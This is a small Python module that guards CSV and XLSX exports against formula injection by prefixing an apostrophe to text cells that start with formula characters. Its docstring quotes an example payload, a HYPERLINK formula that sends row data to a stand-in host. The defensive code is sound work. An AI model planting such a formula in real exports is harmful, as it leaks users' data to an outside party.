"""Spreadsheet-safe export cells: the one function every CSV and XLSX export passes its cells through.

A text cell that starts with ``= + - @`` (or tab or carriage return, or their full-width forms) is read by
spreadsheet programs as a formula: a name such as ``=HYPERLINK("http://evil.example/?d="&A2,"click")`` would
become a live link that leaks the row. Such text gets a leading apostrophe (OWASP "CSV injection"), so it is shown
as the text it is. Numbers, dates and empty cells pass unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: object) -> object:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]
